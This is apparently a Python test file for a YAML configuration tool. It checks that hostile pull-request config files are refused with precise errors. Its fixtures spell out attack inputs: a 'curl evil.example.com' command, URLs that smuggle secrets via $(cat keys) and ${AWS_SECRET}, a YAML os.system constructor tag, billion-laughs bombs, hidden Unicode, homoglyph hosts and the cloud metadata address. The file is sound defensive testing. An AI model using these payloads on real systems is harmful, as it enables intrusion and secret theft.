"""``santral.yaml`` as an attacker would write it in a pull request, hoping that nobody looks.

What such a file may do is change settings, and a plan shows that. It may not lead requests or keys
elsewhere, read a secret, hide what it says from a reviewer, or stop the program without a word.
"""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from support.commands import RUNNABLE
from support.fleet import KEYS
from support.program import Program, Result
from support.stand_in import StandIn

from reconciler.keys.ring import variable_of

SECRET = "an-invented-secret-of-another-service"  # noqa: S105 - nobody's


def fleet(*lines: str) -> str:
    """Return a file in which ankara is set up by these lines, from line 4 on."""
    return "\n".join(["version: 1", "santrals:", "  ankara:", *(f"    {line}" for line in lines)])


def url(written: str) -> str:
    """Return a file in which ankara's notification_url is this, at 5:25."""
    return fleet("crm_integration:", f"  notification_url: {written}")


def two(first: str, second: str) -> str:
    """Return a file with two santrals, on lines 3 and 4."""
    return f"version: 1\nsantrals:\n  {first}\n  {second}\n"


CRM = "crm_integration: {}"
NO_SUCH_FIELD = "is not a field here. Known here:"
OF_A_SANTRAL = f"{NO_SUCH_FIELD} description, key, labels, allow_insecure_url, crm_integration."
IS_IT_KEY = 'is not a field here. Did you mean "key"?'
OF_THE_FILE = f"{NO_SUCH_FIELD} version, defaults, santrals."
KEY_NAME = (
    "key must be the name of a key: lowercase letters (a-z), digits and hyphens, at most 63 "
    "characters. The key itself belongs in the environment."
)
NOTHING_FILLED_IN = (
    "Variables are not expanded here: "
    "${, $( and {{ are not allowed in a value. There are placeholders in notification_url only: "
    "{name}, {labels.KEY} and {secret.NAME}."
)
NO_NAME = (
    "cannot be the name of a santral. A name has lowercase letters (a-z), digits and hyphens, "
    "begins with a letter or digit, and has at most 63 characters."
)
INSTEAD = "Write the value out, or use defaults for what santrals share."
NO_ALIAS = f"Aliases (*name) are not supported. {INSTEAD}"
NO_ANCHOR = f"Anchors (&name) are not supported. {INSTEAD}"
NO_TAG = "Tags (!name) are not supported. Write only the value."
NOT_ASCII = (
    "The URL must be ASCII without spaces and line breaks. Percent-encode other characters, and "
    "write an international host as xn--..."
)
NUMBER_AS_HOST = "The host is a number that some programs read as an IP address. Write a DNS name."
NO_DNS_NAME = "The host is not a DNS name, which has letters, digits and hyphens between dots."
NO_DOT = "The host has no dot. Write the full DNS name."
FOR_A_TEST = "(For a test system, write allow_insecure_url: true beside crm_integration.)"

ELSEWHERE = {
    "another API for all": (
        f"api_url: https://evil.example.com\n{fleet(CRM)}",
        f'1:1: "api_url" {OF_THE_FILE}',
    ),
    "another API for one": (
        fleet(CRM, "base_url: https://evil.example.com"),
        f'5:5: "base_url" {OF_A_SANTRAL}',
    ),
    "a proxy": (
        f"proxy: http://evil.example.com:3128\n{fleet(CRM)}",
        f'1:1: "proxy" {OF_THE_FILE}',
    ),
    "a command": (fleet(CRM, "run: curl evil.example.com"), f'5:5: "run" {OF_A_SANTRAL}'),
    "another file": (
        f"include: /etc/passwd\n{fleet(CRM)}",
        f'1:1: "include" {OF_THE_FILE}',
    ),
    "the limit on changes": (
        f"max_changes: 100%\n{fleet(CRM)}",
        f'1:1: "max_changes" {OF_THE_FILE}',
    ),
}
"""Where requests go, and what the program does, is not the file's to say."""

SECRETS = {
    "another variable as the key": (fleet(CRM, "key: AWS_SECRET"), f"5:10: {KEY_NAME}"),
    "all keys as the key": (fleet(CRM, "key: SANTRAL_KEYS"), f"5:10: {KEY_NAME}"),
    "a variable by a field": (fleet(CRM, "key_env: AWS_SECRET"), f'5:5: "key_env" {IS_IT_KEY}'),
    "a file by a field": (fleet(CRM, "keys_file: .git"), f'5:5: "keys_file" {OF_A_SANTRAL}'),
    "a file as the key": (fleet(CRM, "key: ../../etc/passwd"), f"5:10: {KEY_NAME}"),
    "the end of another variable": (fleet(CRM, "key: x=AWS_SECRET"), f"5:10: {KEY_NAME}"),
    "a variable in the key": (
        fleet(CRM, "key: ${AWS_SECRET}"),
        f"5:10: {KEY_NAME}",
        f"5:10: {NOTHING_FILLED_IN}",
    ),
    "a variable in the URL": (
        url("https://evil.example.com/${AWS_SECRET}"),
        f"5:25: {NOTHING_FILLED_IN}",
    ),
    "a command in the URL": (
        url('"https://evil.example.com/$(cat keys)"'),
        f"5:25: {NOTHING_FILLED_IN}",
    ),
    "an expression in the URL": (
        url('"https://evil.example.com/{{ secrets.SANTRAL_KEYS }}"'),
        f"5:25: {NOTHING_FILLED_IN}",
    ),
    "another placeholder": (
        url('"https://evil.example.com/{key}"'),
        "5:25: This is not a placeholder. There are {name}, {labels.KEY} and {secret.NAME} (NAME "
        "in lowercase, with digits and underscores). Percent-encode other braces.",
    ),
    "a variable in a description": (
        fleet(CRM, "description: ${AWS_SECRET}"),
        f"5:18: {NOTHING_FILLED_IN}",
    ),
}
"""A key is read from the one variable that its name makes, and nothing is filled in."""

YAML_TRICKS = {
    "an alias": (
        two(f"ankara: &a {{{CRM}}}", "bursa: *a"),
        f"3:11: {NO_ANCHOR}",
        f"4:10: {NO_ALIAS}",
    ),
    "a merge key": (
        fleet(CRM, "<<: {key: bursa}"),
        "5:5: Merge keys (<<) are not supported. Use defaults for what santrals share.",
    ),
    "a constructor": (fleet(CRM, "key: !!python/object/apply:os.system x"), f"5:10: {NO_TAG}"),
    "an include": (
        fleet(CRM, "key: !include /etc/passwd"),
        f"5:10: {KEY_NAME}",
        f"5:10: {NO_TAG}",
    ),
    "a field twice": (
        fleet(
            "crm_integration:",
            "  notification_url: https://crm.example.com/",
            "  notification_url: https://evil.example.com/",
        ),
        '6:7: "notification_url" is written twice. The first is at line 5, column 7.',
    ),
    "a santral twice": (
        two(f"ankara: {{{CRM}}}", f'"ankara": {{{CRM}}}'),
        '4:3: "ankara" is written twice. The first is at line 3, column 3.',
    ),
    "a second document": (
        f"{fleet(CRM)}\n---\n{fleet(CRM)}",
        "5:1: A second document starts here. Put it in a file of its own.",
    ),
    "a directive": (
        f"%TAG ! tag:evil.example.com,2026:\n---\n{fleet(CRM)}",
        "1:1: Directives (%YAML, %TAG) are not supported. Delete this line.",
    ),
}
"""What YAML has for programmers, a reviewer would have to know."""

HIDDEN = {
    "a line in a comment, by U+2028": (
        fleet(CRM, "# agreed\u2028    key: bursa"),
        "5:13: There is a hidden character here (U+2028, LINE SEPARATOR). Delete it.",
    ),
    "a line in a comment, by U+2029": (
        fleet(CRM, "# agreed\u2029    key: bursa"),
        "5:13: There is a hidden character here (U+2029, PARAGRAPH SEPARATOR). Delete it.",
    ),
    "a line in a comment, by U+0085": (
        fleet(CRM, "# agreed\u0085    key: bursa"),
        "5:13: There is a hidden character here (U+0085). Delete it.",
    ),
    "a line in a comment, by a carriage return": (
        fleet(CRM, "# agreed\r    key: bursa"),
        "5:13: There is a carriage return here without a line feed. End lines with a line feed.",
    ),
    "text that runs backwards": (
        fleet(CRM, "description: \u202eevil"),
        "5:18: There is a hidden character here (U+202E, RIGHT-TO-LEFT OVERRIDE). Delete it.",
    ),
    "a character without width": (
        fleet(CRM, "key: bur\u200bsa"),
        "5:13: There is a hidden character here (U+200B, ZERO WIDTH SPACE). Delete it.",
    ),
    "a terminal's commands": (
        fleet(CRM, "description: \x1b[2J"),
        "5:18: There is a hidden character here (U+001B). Delete it.",
    ),
    "a terminal's commands, escaped": (
        fleet(CRM, r'description: "\x1b[2J"'),
        "5:18: This quoted text has an escape for a hidden character. Remove it.",
    ),
}
"""What a reviewer sees is what is read."""

LOOK_ALIKES = {
    "a Cyrillic letter": (url("https://crm.ex\u0430mple.com/"), f"5:25: {NOT_ASCII}"),
    "a Cyrillic letter, as xn--": (
        url("https://crm.xn--exmple-4nf.com/"),
        r'5:25: Part of the host stands for "ex\u0430mple", with letters '
        "that are not Latin but may look like it. Write a host without them.",
    ),
    "all Cyrillic, as xn--": (
        url("https://xn--80ak6aa92e.com/"),
        '5:25: Part of the host stands for "'
        r'\u0430\u0440\u0440\u04cf\u0435", with letters '
        "that are not Latin but may look like it. Write a host without them.",
    ),
    "a slash that is none": (
        url("https://crm.example.com\u2044.evil.example"),
        f"5:25: {NOT_ASCII}",
    ),
    "a full stop that is none": (url("https://crm\u3002example.com/"), f"5:25: {NOT_ASCII}"),
    "full width": (url("https://\uff43rm.example.com/"), f"5:25: {NOT_ASCII}"),
    "xn-- that stands for nothing": (
        url("https://crm.xn--example.com/"),
        "5:25: Part of the host begins with xn-- but does not stand for any name. Correct it.",
    ),
    "a host before the real one": (
        url("https://crm.example.com@evil.example.com/"),
        "5:25: The URL has a user part before @, which hides the real host. Remove it.",
    ),
    "a backslash before the real one": (
        url(r"https://evil.example.com\@crm.example.com/"),
        "5:25: The URL has a backslash, which browsers and servers read differently. Write /.",
    ),
    "a fragment before the real one": (
        url("https://evil.example.com#.crm.example.com/"),
        "5:25: The URL has a fragment (#...), which is never sent to a server. Remove it.",
    ),
    "an address as a number": (url("https://2130706433/"), f"5:25: {NO_DOT}"),
    "an address in short": (url("https://127.1/"), f"5:25: {NUMBER_AS_HOST}"),
    "an address in hexadecimal": (url("https://0x7f.0x1/"), f"5:25: {NUMBER_AS_HOST}"),
    "the cloud's own address": (
        url("https://169.254.169.254/latest/meta-data"),
        f"5:25: The host is an IP address. Write a DNS name. {FOR_A_TEST}",
    ),
    "an empty label": (url("https://crm.example.com./"), f"5:25: {NO_DNS_NAME}"),
    "no TLS": (
        url("http://crm.example.com/"),
        f"5:25: The URL must start with https://, because call data are personal. {FOR_A_TEST}",
    ),
}
"""A host is what it seems to be."""

OTHERS_KEYS = {
    "the same key by name": (
        two(f"ankara: {{key: merkez, {CRM}}}", f"bursa: {{key: merkez, {CRM}}}"),
        "4:3: This santral has the same key as the one at santral.yaml:3:3. "
        "Each santral has a key of its own.",
    ),
    "another santral's key": (
        two(f"ankara: {{{CRM}}}", f"bursa: {{key: ankara, {CRM}}}"),
        "4:3: This santral has the same key as the one at santral.yaml:3:3. "
        "Each santral has a key of its own.",
    ),
    "the same variable, as a_b": (
        two(f"a-b: {{{CRM}}}", f"bursa: {{key: a_b, {CRM}}}"),
        f"4:16: {KEY_NAME}",
    ),
    "the same variable, in capitals": (
        two(f"a-b: {{{CRM}}}", f"bursa: {{key: A-B, {CRM}}}"),
        f"4:16: {KEY_NAME}",
    ),
    "the same variable, by a santral a_b": (
        two(f"a-b: {{{CRM}}}", f"a_b: {{{CRM}}}"),
        f'4:3: "a_b" {NO_NAME} Write "a-b".',
    ),
    "the same variable, by a dotless i": (
        two(f"izmir: {{{CRM}}}", f"bursa: {{key: \u0131zmir, {CRM}}}"),
        f"4:16: {KEY_NAME}",
    ),
    "a name that only looks like another": (
        two(f"ankara: {{{CRM}}}", f"\u0430nkara: {{{CRM}}}"),
        rf'4:3: "\u0430nkara" {NO_NAME} Write "nkara".',
    ),
}
"""One key under two names could change a santral that nobody looked at."""

ATTACKS = {**ELSEWHERE, **SECRETS, **YAML_TRICKS, **HIDDEN, **LOOK_ALIKES, **OTHERS_KEYS}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_with_its_place_and_reason(
    program: Program, stand_in: StandIn, name: str
) -> None:
    """By ``validate``, which a pull request runs, and by ``plan`` before it asks for anything."""
    content, *problems = ATTACKS[name]
    program.write("santral.yaml", content)
    program.monkeypatch.setenv("AWS_SECRET", SECRET)
    refused = Result(1, "", "".join(f"santral.yaml:{problem}\n" for problem in problems))
    assert [program.run("validate"), program.run("plan")] == [refused, refused]
    assert stand_in.service.requests == []


BOMBS = {
    "a billion laughs": (
        "version: 1\n"
        "a0: &a0 [x, x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 30)),
        f"2:5: {NO_ANCHOR}",
    ),
    "a million brackets": (
        "version: 1\nsantrals: " + "[" * 10**6,
        "2:26: This is nested deeper than 16 levels. The format needs only four.",
    ),
    "a huge file": ("#" * (16 * 2**20 + 1), "1:1: This file is larger than 16 MiB. Split it."),
    "a huge value": (
        url("https://crm.example.com/" + "x" * 65_536),
        "5:25: This text has more than 65536 characters. No field needs that many.",
    ),
    "a number without end": (
        "version: " + "9" * 5_000,
        "1:10: version must be 1, the only version of this format.",
    ),
}
"""How long they take, and how much memory, is told by test_reader.py."""


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_with_a_place_and_a_reason(
    program: Program, stand_in: StandIn, name: str
) -> None:
    """The reason is among the problems; there may be more."""
    content, problem = BOMBS[name]
    program.write("santral.yaml", content)
    result = program.run("plan")
    assert (result.exit_code, result.stdout, stand_in.service.requests) == (1, "", [])
    assert f"santral.yaml:{problem}" in result.stderr.splitlines()


def test_so_many_attacks_are_tried_as_contributing_says() -> None:
    """One that is lost is missed."""
    assert len(ATTACKS) + len(BOMBS) == 62


# What a file may do, and a reviewer is told of

TURKISH = "xn--irket-idb"
"""What DNS makes of şirket."""


def test_a_host_in_turkish_letters_is_written_out_at_each_run(
    program: Program, stand_in: StandIn
) -> None:
    """It is allowed, and may still be another than it seems: ı for i, say."""
    program.write("santral.yaml", url(f"https://crm.{TURKISH}.example/"))
    warning = (
        "Warning: santral.yaml:3:3: santral ankara: The host of the notification_url, "
        rf"crm.{TURKISH}.example, stands for crm.şirket.example (crm.\u015firket.example). "
        "Check that it is the one you mean.\n"
    )
    for expected in ("1 to change, 0 in sync", "0 to change, 1 in sync"):
        result = program.run("plan")
        assert (result.exit_code, result.stderr) == (0, warning)
        assert f"\nPlan: {expected}, 0 failed." in f"\n{result.stdout}"
        program.run("apply")


def test_a_key_in_a_file_that_has_no_known_shape_is_found_before_it_is_shown(
    program: Program, stand_in: StandIn
) -> None:
    """The plan would print it, and the journal keep it."""
    key = KEYS["ankara"].reveal().removeprefix("K")
    program.write("santral.yaml", url(f"https://crm.example.com/{key.replace('-', '%2d')}"))
    told = (
        "santral.yaml:5:25: This holds the key of santral ankara. Remove it, renew it in the "
        "panel (whoever can read this file can use it), and give the new one in the environment: "
        "see SANTRAL_KEYS.\n"
    )
    assert program.run("plan") == Result(1, "", told)
    assert stand_in.service.requests == []


# Names of keys

key_names = st.from_regex(r"[a-z0-9][a-z0-9-]{0,62}", fullmatch=True)
"""As the schema has them."""


@settings(max_examples=200, deadline=None, derandomize=True)
@given(key_names, key_names)
@example("s", "s-file")
@example("a-b", "ab")
@example("a--b", "a-b")
def test_a_key_name_makes_one_variable_of_its_own(one: str, other: str) -> None:
    """Two names never share one, and none is the variable of an option or of all keys."""
    assert (variable_of(one) == variable_of(other)) is (one == other)
    assert re.fullmatch("SANTRAL_KEY_[A-Z0-9_]+", variable_of(one))


def test_no_option_has_a_variable_that_a_key_name_can_make() -> None:
    """What begins with SANTRAL_KEY_ is a key and nothing else."""
    variables = {str(p.envvar) for command in RUNNABLE.values() for p in command.params}
    assert "SANTRAL_KEYS_FILE" in variables
    assert {name for name in variables if name.startswith("SANTRAL_KEY_")} == set()


def test_the_program_reads_no_variable_that_a_file_asks_for(
    program: Program, stand_in: StandIn
) -> None:
    """A key named s is looked for in SANTRAL_KEY_S, whatever else begins like that."""
    program.write("santral.yaml", fleet(CRM, "key: s"))
    for name in ("SANTRAL_KEYS", "S", "KEY_S", "SANTRAL_S", "SANTRAL_KEY"):
        program.monkeypatch.setenv(name, f"x={SECRET}" if name == "SANTRAL_KEYS" else SECRET)
    result = program.run("plan")
    assert "There is no key for this santral. Set SANTRAL_KEY_S, " in result.stdout
    assert SECRET not in result.stdout + result.stderr
    assert stand_in.service.requests == []
